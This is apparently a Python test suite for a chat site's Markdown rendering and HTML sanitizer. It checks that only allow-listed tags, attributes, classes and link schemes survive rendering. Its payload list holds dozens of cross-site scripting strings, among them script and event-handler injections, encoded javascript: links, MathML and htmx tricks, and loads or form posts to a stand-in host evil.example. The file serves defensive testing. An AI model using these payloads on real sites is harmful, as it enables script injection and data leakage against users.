"""Hostile Markdown: whatever is written, only listed tags and attributes come out."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatsite.rendering.decoration import ENGLISH
from chatsite.rendering.sanitizer import sanitize_html
from tests.rendering.dom import Element, parse_html
from tests.support.whole_texts import render_markdown

ALLOWED: dict[str, set[str]] = {
    "a": {"href", "title", "target", "rel", "referrerpolicy"},
    "blockquote": {"dir"},
    "br": set(),
    "button": {"class", "aria-label"},
    "code": {"class", "dir"},
    "div": {"class", "tabindex", "role", "aria-label"},
    "em": set(),
    "figcaption": set(),
    "figure": {"class"},
    "input": {"type", "autocomplete"},
    "label": {"class"},
    "h3": {"dir"},
    "h4": {"dir"},
    "h5": {"dir"},
    "h6": {"dir"},
    "hr": set(),
    "i": {"class"},
    "li": set(),
    "ol": {"dir", "start"},
    "p": {"dir"},
    "pre": {"dir", "tabindex", "role", "aria-label"},
    "s": set(),
    "span": {"class", "role", "aria-label", "tabindex"},
    "strong": set(),
    "table": {"dir"},
    "tbody": set(),
    "td": {"align"},
    "th": {"align"},
    "thead": set(),
    "tr": set(),
    "ul": {"dir"},
    # Formulas.
    "annotation": {"encoding"},
    "math": {"dir", "display"},
    "menclose": {"notation"},
    "mfrac": {"displaystyle", "linethickness"},
    "mi": {"mathvariant"},
    "mo": {"form", "lspace", "maxsize", "minsize", "movablelimits", "rspace", "stretchy"},
    "mover": {"accent"},
    "mrow": {"displaystyle", "scriptlevel"},
    "mspace": {"width"},
    "mtable": {"displaystyle", "scriptlevel"},
    "mtd": {"class"},
    "munder": {"accentunder"},
    **{tag: set() for tag in ("mn", "mpadded", "mphantom", "mroot", "msqrt", "msub", "msubsup", "msup", "mtext")},
    **{tag: set() for tag in ("mtr", "munderover", "semantics")},
}
CLASSES = re.compile(
    r"code|copy|download|slim|narrow|table(-scroll)?|footnote|c|k|s|m|nb|nc|nf|gd|language-[a-z0-9_+#.-]{1,30}"
    r"|formula|todo|done|math-(within|kept|left|right|joins|joined|apart|rule-(left|right|top))"
)
ADDRESSES = re.compile(r"https?://|mailto:", re.IGNORECASE)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/?leak=1>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,a></object><embed src=x>",
    "<form action=https://evil.example><button>Continue</button></form>",
    '<button type="button" class="copy" onclick="alert(1)">Copy</button>',
    '<figure class="code"><figcaption><button class="copy">Copy</button></figcaption></figure>',
    "<input autofocus onfocus=alert(1)>",
    "<style>*{display:none}</style>",
    '<p style="position:fixed;inset:0" id="composer" class="message">a</p>',
    "<link rel=stylesheet href=//evil.example/x.css><base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<body onload=alert(1)><html><head><title>a</title>",
    "<a href='javascript:alert(1)'>a</a>",
    '<div hx-get="/account" hx-trigger="load"></div>',
    '<div data-hx-get="/account" data-hx-trigger="load"></div>',
    '<div hx-on:click="alert(1)" hx-sse:connect="/x">a</div>',
    '<hx-partial hx-target="#messages" hx-swap="innerHTML">a</hx-partial>',
    "<template><script>alert(1)</script></template><noscript><p title='</noscript><script>'>",
    "<!-- --><!--><script>alert(1)</script>--><![CDATA[<script>]]><?php a ?><!DOCTYPE html>",
    "<textarea></textarea><select><option>a</select><dialog open>a</dialog><details open ontoggle=a>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java&#x73;cript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](&#1;javascript:alert(1))",
    "[a]( java\tscript:alert(1))",
    "[a](<java\nscript:alert(1)>)",
    "[a](vbscript:msgbox(1)) [a](data:text/html;base64,PHNjcmlwdD4=) [a](file:///etc/passwd)",
    "[a](//evil.example) [a](/account/delete) [a](\\evil.example) [a](https:evil.example)",
    "<javascript:alert(1)> <data:text/html,a>",
    "[a]\n\n[a]: javascript:alert(1)",
    "![a](javascript:alert(1)) ![a](data:image/svg+xml,<svg/onload=alert(1)>)",
    '![a" onerror="alert(1)](https://evil.example/"onerror="alert(1))',
    '[a](https://example.org "\\" onmouseover=\\"alert(1)")',
    "[a](https://example.org '\"><script>alert(1)</script>')",
    "[a](https://example.org \"<hx-partial hx-target='body'>\")",
    "[a](https://example.org/<hx-partial>)",
    "[a](<https://example.org/<hx-partial hx-get=/account>>)",
    "[a](https://example.org/&quot;onclick=&quot;alert(1))",
    "[<script>alert(1)</script>](https://example.org)",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E \\u003cscript\\u003e ＜script＞",  # noqa: RUF001
    '```"><script>alert(1)</script>\na\n```',
    '```python" onclick="alert(1)\na\n```',
    "~~~ '><hx-partial>\n</code></pre><script>alert(1)</script>\n~~~",
    "```html\n</code></pre></figure><button class=copy>Copy</button><img src=x onerror=alert(1)>\n```",
    "    <script>alert(1)</script>\n",
    "`<script>alert(1)</script>` ``</code><svg onload=alert(1)>``",
    "| <script>alert(1)</script> | b |\n|-|-|\n| <img src=x onerror=a> | [a](javascript:alert(1)) |\n",
    '| a |\n|:-:" onclick="alert(1)|\n| b |\n',
    "# <svg onload=alert(1)> {#composer .message onclick=alert(1)}",
    "- <script>\n- alert(1)\n- </script>\n",
    "> <iframe>\n> <style>\n",
    "<scr\x00ipt>alert(1)</scr\x00ipt> [a](java\x00script:alert(1))",
    "<a href=https://example.org\u2028onclick=alert(1)>a</a>",
    "a\u202e<script>\u202calert(1)",
    "<pre><code></code></pre></table><table>",
    r"$\text{<script>alert(1)</script>}$ \(\mathrm{<img src=x onerror=alert(1)>}\)",
    r"$$\href{javascript:alert(1)}{x} \style{position:fixed}{x} \class{message}{x} \id{composer}{x}$$",
    r"$\text{</mtext></math><script>alert(1)</script>}$ $</annotation></semantics></math><img src=x onerror=alert(1)>$",
    r"$\color{red;background:url(//evil.example)}x$ $\textcolor{#f00}{x}$ $\hspace{1em;position:fixed}x$",
    r"$$\begin{array}{c\"onclick=alert(1)}x\end{array}$$",
    r"$\text{<mtd style=\"text-align: right\">}$ $\unicode{x3c}script\unicode{x3e}$ $\char60 script\char62$",
    "$x$<button class=copy>Copy</button> $$<hx-partial hx-target='body'>$$",
    "- [x](javascript:alert(1))\n- [ ] <input type=checkbox onclick=alert(1)>",
]


def offences(element: Element) -> list[str]:
    """Give what an element has that no message may have."""
    found = [] if element.tag in ALLOWED else [element.tag]
    found += [f"{element.tag} {name}" for name in element.attributes.keys() - ALLOWED.get(element.tag, set())]
    classes = (element.attributes.get("class") or "").split()
    found += [name for name in classes if not CLASSES.fullmatch(name)]
    address = element.attributes.get("href")
    return found + ([address] if address is not None and not ADDRESSES.match(address) else [])


def assert_safe(html: str) -> Element:
    """Fail for anything that is not listed, and give the document."""
    page = parse_html(html)
    assert [offence for element in page.iter_elements() for offence in offences(element)] == []
    assert len(page.find_all("figure")) == len(page.find_all("pre"))
    # Code can be copied and downloaded, a table copied; and no message says what those buttons are called.
    assert len(page.find_all("button")) == 2 * len(page.find_all("figure")) + len(page.find_all("table"))
    assert {button.attributes.get("aria-label") for button in page.find_all("button")} <= {None, ENGLISH.download}
    assert len(page.find_all("input")) == len(page.find_all("label")) <= len(page.find_all("figure"))
    assert "<hx-" not in html.lower()
    return page


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralized(payload: str) -> None:
    assert_safe(render_markdown(payload))


@pytest.mark.parametrize("frame", ["> {}", "- {}", "# {}", "**{}**", "a {} b", "| a |\n|-|\n| {} |", "[{}](https://a)"])
def test_payload_inside_markdown_is_neutralized(frame: str) -> None:
    for payload in PAYLOADS:
        assert_safe(render_markdown(frame.format(payload)))


@pytest.mark.parametrize(
    "payload", [payload for payload in PAYLOADS if payload.startswith("<") and "\n" not in payload]
)
def test_html_in_code_is_shown_verbatim(payload: str) -> None:
    shown = assert_safe(render_markdown(f"`` {payload} ``")).text
    assert shown.strip() == payload.replace("\x00", "\ufffd")


_PIECES = st.sampled_from(
    [*PAYLOADS, "\n", "\n\n", "`", "```\n", "**", "[", "](", ")", "> ", "- ", "|", '"', "'", "<", "&"]
)


@given(st.lists(_PIECES, max_size=8).map("".join))
def test_combined_payloads_are_neutralized(source: str) -> None:
    assert_safe(render_markdown(source))


@given(st.text(max_size=60))
def test_arbitrary_text_is_safe(source: str) -> None:
    assert_safe(render_markdown(source))


@given(st.text(alphabet="<>/\"'=`&;#x3c ahx-partlon:()[]!\n\\", max_size=80))
def test_arbitrary_html_like_text_is_safe(source: str) -> None:
    assert_safe(render_markdown(source))


def test_image_urls_are_never_loaded() -> None:
    page = assert_safe(
        render_markdown("![secret](https://evil.example/?q=secret)\n\n![b][c]\n\n[c]: https://evil.example/c")
    )
    loaders = {"src", "srcset", "poster", "data", "background", "ping", "action", "formaction", "style"}
    assert not [element for element in page.iter_elements() if loaders & element.attributes.keys()]
    assert [a.text for a in page.find_all("a")] == ["secret", "b"]


def test_htmx_tags_are_escaped_in_attributes() -> None:
    html = render_markdown('[a](https://example.org "<hx-partial>")')
    assert 'title="&lt;hx-partial&gt;"' in html


@pytest.mark.parametrize(
    ("html", "left"),
    [
        (
            '<p id="a" style="b" class="c" data-d="e" hx-get="f" data-hx-get="g" onclick="h" lang="de">i</p>',
            "<p>i</p>",
        ),
        ('<i class="k message">a</i>', '<i class="k">a</i>'),
        ('<code class="k">a</code>', "<code>a</code>"),
        ('<p dir="rtl">a</p>', "<p>a</p>"),
        ('<td align="char">a</td>', "a"),
        ("<img src=https://evil.example><button>a</button><input>", "a"),
        ("<script>a</script><style>b</style>", ""),
        ("<hx-partial>a</hx-partial>", "a"),
        ("<h1>a</h1><!-- b -->", "a"),
        (
            '<math xlink:href="a" style="b" onclick="c"><mi href="javascript:d" class="e">f</mi></math>',
            "<math><mi>f</mi></math>",
        ),
        ('<math><maction actiontype="statusline"><mi>a</mi></maction></math>', "<math><mi>a</mi></math>"),
        ('<math><annotation encoding="text/html">a</annotation></math>', "<math><annotation>a</annotation></math>"),
        ("<math><mtext><img src=x><style>b</style></mtext></math>", "<math><mtext></mtext></math>"),
        (
            '<math><mtable><mtr><mtd class="message math-right">a</mtd></mtr></mtable></math>',
            '<math><mtable><mtr><mtd class="math-right">a</mtd></mtr></mtable></math>',
        ),
    ],
)
def test_sanitizer_removes_unlisted_html(html: str, left: str) -> None:
    assert sanitize_html(html) == left


@pytest.mark.parametrize("address", ["javascript:a", "data:a", "/a", "//a", "#a", "vbscript:a", "java\tscript:a"])
def test_sanitizer_removes_unsafe_urls(address: str) -> None:
    assert "href" not in sanitize_html(f'<a href="{address}">a</a>')
